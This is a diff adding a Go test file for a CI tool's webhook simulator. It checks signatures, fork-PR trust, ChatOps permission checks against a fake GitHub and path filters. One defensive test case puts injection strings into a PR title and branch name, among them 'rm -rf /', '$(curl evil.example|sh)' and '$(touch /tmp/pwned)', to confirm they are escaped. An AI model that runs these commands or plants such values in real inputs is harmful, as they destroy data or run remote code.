@@ -1,0 +1,356 @@
+package simulate_test
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/pipewright/pipewright/generator"
+	"github.com/pipewright/pipewright/generator/builtin"
+	"github.com/pipewright/pipewright/generator/config"
+	"github.com/pipewright/pipewright/generator/render"
+	"github.com/pipewright/pipewright/pkg/github/githubtest"
+	"github.com/pipewright/pipewright/pkg/simulate"
+)
+
+const (
+	payloads = "../../../shared/testdata/github-webhooks"
+	secret   = "It's a Secret to Everybody"
+	repo     = "Codertocat/Hello-World"
+	prHead   = "ec26c3e57ca3a959ca5aad62de7213c562f8c821"
+	newHead  = "4f1c1f2d6e0b8e5c0a9b3e7d2c1b0a9f8e7d6c5b"
+	pushSHA  = "6113728f27ae82c7b1a177c8d03f9e96e0adf246"
+)
+
+// project generates the built-in example with extra config appended (it
+// ends inside the github: block).
+func project(t *testing.T, extra string) render.Tree {
+	t.Helper()
+	cfg, err := config.Parse(builtin.File, append(append([]byte{}, builtin.Config...), extra...))
+	if err != nil {
+		t.Fatal(err)
+	}
+	tree, err := generator.Project(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return tree
+}
+
+func read(t *testing.T, name string) []byte {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join(payloads, name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// derive changes a real payload; set takes dotted paths.
+func derive(t *testing.T, name string, set map[string]any) []byte {
+	t.Helper()
+	var m map[string]any
+	if err := json.Unmarshal(read(t, name), &m); err != nil {
+		t.Fatal(err)
+	}
+	for path, v := range set {
+		keys := strings.Split(path, ".")
+		cur := m
+		for _, k := range keys[:len(keys)-1] {
+			cur = cur[k].(map[string]any)
+		}
+		cur[keys[len(keys)-1]] = v
+	}
+	b, err := json.Marshal(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+func comment(t *testing.T, body, user string) []byte {
+	return derive(t, "issue_comment.created.json", map[string]any{
+		"issue.pull_request": map[string]any{"url": "https://api.github.com/repos/Codertocat/Hello-World/pulls/1"},
+		"comment.body":       body,
+		"comment.user.login": user,
+	})
+}
+
+// fakeGitHub knows PR #1 of the example repository, from a fork by an
+// untrusted author unless same is set; Codertocat has write, bob is in
+// OWNERS, mallory has read.
+func fakeGitHub(t *testing.T, head string, same bool) *githubtest.Server {
+	gh := githubtest.New(t)
+	gh.AddRepo(repo)
+	p := githubtest.Pull{Number: 1, Author: "mallory", Association: "NONE", HeadSHA: head, HeadRef: "patch-1",
+		HeadRepo: "mallory/Hello-World", BaseRef: "master"}
+	if same {
+		p.HeadRepo, p.Author, p.Association = "", "Codertocat", "OWNER"
+	}
+	gh.AddPull(repo, p)
+	gh.SetPermission(repo, "Codertocat", "admin")
+	gh.SetPermission(repo, "mallory", "read")
+	gh.AddFile(repo, "OWNERS", "approvers:\n  - carol\nreviewers:\n  - bob\n")
+	return gh
+}
+
+func TestSimulate(t *testing.T) {
+	tree := project(t, "  owners:\n    - alice\n")
+	pr := func(revision string) map[string]string {
+		return map[string]string{"repo-url": "https://github.com/Codertocat/Hello-World.git", "revision": revision,
+			"repo-full-name": repo, "pr-number": "2"}
+	}
+	pr1 := func(revision string) map[string]string {
+		p := pr(revision)
+		p["pr-number"] = "1"
+		return p
+	}
+	release := func(revision string) map[string]string {
+		return map[string]string{"repo-url": "https://github.com/Codertocat/Hello-World.git", "revision": revision, "repo-full-name": repo}
+	}
+	const fork = "mallory/Hello-World"
+	shell := "feat/$(touch /tmp/pwned);echo${IFS}`id`|sh&&'\"x"
+	type tc struct {
+		name, event string
+		payload     []byte
+		head        string // PR #1 head on the fake GitHub; "" = no GitHub calls expected
+		samePR      bool
+		d           func(*simulate.Delivery)
+		fires       string            // trigger that fires, or ""
+		params      map[string]string // its PipelineRun's params
+		annotations map[string]string
+		reason      string   // for a PR/comment that did not fire: part of the trigger's reason
+		requests    []string // exact GitHub requests
+	}
+	var cases []tc
+	// Every real payload, as GitHub sends it.
+	real := map[string]struct {
+		fires  string
+		params map[string]string
+	}{
+		"pull_request.opened.json":                     {"pull-request", pr(prHead)},
+		"pull_request.opened.with-organization.json":   {"pull-request", pr(prHead)},
+		"pull_request.reopened.json":                   {"pull-request", pr(prHead)},
+		"pull_request.synchronize.json":                {"pull-request", pr(prHead)},
+		"pull_request.ready_for_review.json":           {"pull-request", pr(prHead)},
+		"pull_request.closed.json":                     {},
+		"pull_request.converted_to_draft.json":         {},
+		"pull_request.labeled.json":                    {},
+		"push.json":                                    {}, // tag deletion
+		"push.1.json":                                  {},
+		"push.with-organization.json":                  {},
+		"push.with-new-branch.json":                    {"release", release(pushSHA)},
+		"issue_comment.created.json":                   {}, // on an issue, not a command
+		"issue_comment.created.with-organization.json": {},
+		"ping.json":                                    {},
+	}
+	files, _ := filepath.Glob(filepath.Join(payloads, "*.json"))
+	if len(files) != len(real) {
+		t.Fatalf("%d payload files, %d expectations: add the new file to the table", len(files), len(real))
+	}
+	for _, f := range files {
+		name := filepath.Base(f)
+		want, ok := real[name]
+		if !ok {
+			t.Fatalf("no expectation for %s", name)
+		}
+		cases = append(cases, tc{name: name, event: strings.SplitN(name, ".", 2)[0], payload: read(t, name), fires: want.fires, params: want.params})
+		if want.fires != "" {
+			// A wrong secret, a forged signature or none: nothing fires.
+			ev := strings.SplitN(name, ".", 2)[0]
+			cases = append(cases,
+				tc{name: name + "/wrong secret", event: ev, payload: read(t, name), d: func(d *simulate.Delivery) { d.Signature = simulate.Sign("guess", d.Payload) }},
+				tc{name: name + "/forged signature", event: ev, payload: read(t, name), d: func(d *simulate.Delivery) { d.Signature = "sha256=" + strings.Repeat("0", 64) }},
+				tc{name: name + "/no signature", event: ev, payload: read(t, name), d: func(d *simulate.Delivery) { d.Unsigned = true }},
+			)
+		}
+	}
+	cases = append(cases,
+		tc{name: "fork PR, untrusted author", event: "pull_request", payload: derive(t, "pull_request.opened.json", map[string]any{
+			"pull_request.head.repo.full_name": fork, "pull_request.author_association": "NONE", "pull_request.user.login": "mallory"}),
+			reason: "did not return true"},
+		tc{name: "fork PR, owner from the config", event: "pull_request", payload: derive(t, "pull_request.opened.json", map[string]any{
+			"pull_request.head.repo.full_name": fork, "pull_request.author_association": "CONTRIBUTOR", "pull_request.user.login": "alice"}),
+			fires: "pull-request", params: pr(prHead)},
+		tc{name: "fork PR, member", event: "pull_request", payload: derive(t, "pull_request.synchronize.json", map[string]any{
+			"pull_request.head.repo.full_name": fork, "pull_request.author_association": "MEMBER", "pull_request.user.login": "dave"}),
+			fires: "pull-request", params: pr(prHead)},
+		tc{name: "merged PR", event: "pull_request", payload: derive(t, "pull_request.closed.json", map[string]any{"pull_request.merged": true}),
+			reason: "did not return true"},
+		tc{name: "draft PR", event: "pull_request", payload: derive(t, "pull_request.opened.json", map[string]any{"pull_request.draft": true}),
+			reason: "did not return true"},
+		tc{name: "PR to another branch", event: "pull_request", payload: derive(t, "pull_request.opened.json", map[string]any{"pull_request.base.ref": "release-1"}),
+			reason: "did not return true"},
+		tc{name: "push to default branch", event: "push", payload: derive(t, "push.json", map[string]any{
+			"ref": "refs/heads/master", "deleted": false, "after": newHead}), fires: "release", params: release(newHead),
+			annotations: map[string]string{"pipewright.dev/event": "push", "pipewright.dev/ref": "refs/heads/master"}},
+		tc{name: "push to feature branch", event: "push", payload: derive(t, "push.with-new-branch.json", map[string]any{"ref": "refs/heads/feature"})},
+		tc{name: "tag push", event: "push", payload: derive(t, "push.json", map[string]any{"deleted": false, "created": true, "after": newHead, "ref": "refs/tags/v1.0.0"})},
+		tc{name: "default branch deleted", event: "push", payload: derive(t, "push.json", map[string]any{"ref": "refs/heads/master"})},
+		tc{name: "shell metacharacters in title and branch", event: "pull_request", payload: derive(t, "pull_request.opened.json", map[string]any{
+			"pull_request.title": "\"; rm -rf / # $(curl evil.example|sh) `reboot`", "pull_request.head.ref": shell}),
+			fires: "pull-request", params: pr(prHead),
+			// Triggers escapes $( so Tekton does not substitute it.
+			annotations: map[string]string{"pipewright.dev/head-ref": strings.ReplaceAll(shell, "$(", "$$("), "pipewright.dev/base-ref": "master", "pipewright.dev/event": "pull_request"}},
+		// ChatOps: the pipewright interceptor asks GitHub.
+		tc{name: "/retest by a collaborator on a same-repo PR", event: "issue_comment", payload: comment(t, "/retest", "Codertocat"),
+			head: prHead, samePR: true, fires: "chatops", params: pr1(prHead),
+			annotations: map[string]string{"pipewright.dev/head-ref": "patch-1", "pipewright.dev/base-ref": "master", "pipewright.dev/event": "pull_request"},
+			requests:    []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/Codertocat/permission"}},
+		tc{name: "/retest by a read-only user", event: "issue_comment", payload: comment(t, "/retest", "mallory"),
+			head: prHead, samePR: true, reason: "mallory may not start CI here",
+			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/mallory/permission",
+				"GET /repos/Codertocat/Hello-World/contents/OWNERS?ref=master"}},
+		tc{name: "/retest on an untrusted fork", event: "issue_comment", payload: comment(t, "/retest", "Codertocat"),
+			head: prHead, reason: "approve a commit with /ok-to-test <sha>",
+			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/Codertocat/permission",
+				"GET /repos/Codertocat/Hello-World/collaborators/mallory/permission", "GET /repos/Codertocat/Hello-World/contents/OWNERS?ref=master"}},
+		tc{name: "/ok-to-test <sha> from an OWNERS reviewer", event: "issue_comment", payload: comment(t, "LGTM\n/ok-to-test "+prHead[:10], "bob"),
+			head: prHead, fires: "chatops", params: pr1(prHead),
+			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/bob/permission",
+				"GET /repos/Codertocat/Hello-World/contents/OWNERS?ref=master"}},
+		tc{name: "/ok-to-test <sha> from a config owner", event: "issue_comment", payload: comment(t, "/ok-to-test "+prHead, "alice"),
+			head: prHead, fires: "chatops", params: pr1(prHead),
+			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1"}},
+		tc{name: "/ok-to-test <sha> after a push moved the head", event: "issue_comment", payload: comment(t, "/ok-to-test "+prHead[:7], "Codertocat"),
+			head: newHead, reason: "approval names " + prHead[:7] + " but the PR head is " + newHead + ": review the new commits and approve again",
+			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/Codertocat/permission"}},
+		tc{name: "/ok-to-test from an untrusted user", event: "issue_comment", payload: comment(t, "/ok-to-test "+prHead, "mallory"),
+			head: prHead, reason: "mallory may not start CI here",
+			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/mallory/permission",
+				"GET /repos/Codertocat/Hello-World/contents/OWNERS?ref=master"}},
+		tc{name: "/ok-to-test without a sha", event: "issue_comment", payload: comment(t, "/ok-to-test", "Codertocat"),
+			head: prHead, reason: "/ok-to-test needs the commit it approves"},
+	)
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			opts := simulate.Options{}
+			var gh *githubtest.Server
+			if c.head != "" {
+				gh = fakeGitHub(t, c.head, c.samePR)
+				opts = simulate.Options{GitHubAPI: gh.URL, GitHubToken: gh.Token}
+			}
+			d := simulate.Delivery{Event: c.event, Payload: c.payload, Secret: secret}
+			if c.d != nil {
+				c.d(&d)
+			}
+			res, err := simulate.Run(context.Background(), tree, d, opts)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var fired []string
+			for _, f := range res.Fired {
+				fired = append(fired, f.Trigger)
+			}
+			if c.fires == "" {
+				if len(fired) > 0 {
+					t.Fatalf("fired %v, want nothing", fired)
+				}
+			} else if !reflect.DeepEqual(fired, []string{c.fires}) {
+				t.Fatalf("fired %v, want [%s]; skipped: %+v", fired, c.fires, res.Skipped)
+			}
+			if len(res.Skipped)+len(res.Fired) != 3 {
+				t.Errorf("%d triggers evaluated, want 3", len(res.Skipped)+len(res.Fired))
+			}
+			if c.d != nil {
+				for _, s := range res.Skipped {
+					if !strings.Contains(s.Reason, "signature") && !strings.Contains(s.Reason, "X-Hub-Signature-256") && !strings.Contains(s.Reason, "not allowed") {
+						t.Errorf("trigger %s: reason %q does not name the signature", s.Trigger, s.Reason)
+					}
+				}
+			}
+			if c.reason != "" {
+				want := "pull-request"
+				if c.event == "issue_comment" {
+					want = "chatops"
+				}
+				found := false
+				for _, s := range res.Skipped {
+					if s.Trigger == want {
+						found = true
+						if !strings.Contains(s.Reason, c.reason) {
+							t.Errorf("trigger %s: reason %q, want it to contain %q", want, s.Reason, c.reason)
+						}
+					}
+				}
+				if !found {
+					t.Errorf("trigger %s was not skipped", want)
+				}
+			}
+			if c.fires != "" {
+				run := res.Fired[0].PipelineRun
+				got := map[string]string{}
+				for _, p := range run.Spec.Params {
+					got[p.Name] = p.Value.StringVal
+				}
+				if !reflect.DeepEqual(got, c.params) {
+					t.Errorf("params %v, want %v", got, c.params)
+				}
+				for k, v := range c.annotations {
+					if run.Annotations[k] != v {
+						t.Errorf("annotation %s = %q, want %q", k, run.Annotations[k], v)
+					}
+				}
+				if want := "hello-world-" + map[string]string{"release": "release"}[c.fires]; c.fires == "release" && run.Spec.PipelineRef.Name != want {
+					t.Errorf("pipelineRef %s, want %s", run.Spec.PipelineRef.Name, want)
+				} else if c.fires != "release" && run.Spec.PipelineRef.Name != "hello-world-pull-request" {
+					t.Errorf("pipelineRef %s, want hello-world-pull-request", run.Spec.PipelineRef.Name)
+				}
+			}
+			if gh != nil {
+				var got []string
+				for _, r := range gh.Requests() {
+					got = append(got, strings.TrimSuffix(r.Method+" "+r.Path+"?"+r.Query, "?"))
+					if r.Auth != "Bearer "+gh.Token {
+						t.Errorf("%s %s: Authorization %q", r.Method, r.Path, r.Auth)
+					}
+				}
+				if !reflect.DeepEqual(got, c.requests) {
+					t.Errorf("GitHub requests:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(c.requests, "\n"))
+				}
+			}
+		})
+	}
+}
+
+// TestPathFilters: with paths in the config, the github interceptor lists
+// the PR's files from the GitHub API and CEL matches them.
+func TestPathFilters(t *testing.T) {
+	tree := project(t, "paths:\n  - services/api/**\n  - go.mod\n")
+	for _, c := range []struct {
+		files []string
+		fires bool
+	}{
+		{[]string{"README.md", "services/api/handler/main.go"}, true},
+		{[]string{"go.mod"}, true},
+		{[]string{"services/web/main.go", "go.sum"}, false},
+	} {
+		t.Run(fmt.Sprint(c.files), func(t *testing.T) {
+			gh := githubtest.New(t)
+			gh.AddRepo(repo)
+			gh.AddPull(repo, githubtest.Pull{Number: 2, HeadSHA: prHead, BaseRef: "master", Files: c.files})
+			res, err := simulate.Run(context.Background(), tree,
+				simulate.Delivery{Event: "pull_request", Payload: read(t, "pull_request.opened.json"), Secret: secret},
+				simulate.Options{GitHubAPI: gh.URL, GitHubToken: gh.Token})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := len(res.Fired) == 1; got != c.fires {
+				t.Fatalf("fired %v, want %v; skipped %+v", got, c.fires, res.Skipped)
+			}
+			var got []string
+			for _, r := range gh.Requests() {
+				got = append(got, r.Method+" "+r.Path+"?"+r.Query+" "+r.Auth)
+			}
+			want := []string{"GET /repos/Codertocat/Hello-World/pulls/2/files?per_page=100 Bearer " + gh.Token}
+			if !reflect.DeepEqual(got, want) {
+				t.Errorf("requests %q, want %q", got, want)
+			}
+		})
+	}
+}
